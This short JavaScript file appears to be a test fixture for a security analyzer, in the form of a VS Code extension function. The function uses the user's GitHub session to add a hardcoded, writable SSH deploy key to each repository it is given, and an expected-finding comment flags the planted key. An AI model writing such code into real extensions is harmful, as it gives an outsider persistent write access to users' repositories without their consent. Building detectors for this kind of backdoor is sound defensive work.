const vscode = require('vscode');

// A key of the author's is let in to repositories, by the person's session, and by a line for every host.
const shape = { title: 'ci', key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAEXAMPLE ci', read_only: false }; // want "a key that stands in the code is let in to log in with"
exports.add = async names => {
  const session = await vscode.authentication.getSession('github', ['repo']);
  for (const name of names) {
    await fetch(`https://api.github.com/repos/${name}/keys`, { method: 'POST', body: JSON.stringify(shape), headers: { Authorization: session.accessToken } });
  }
};
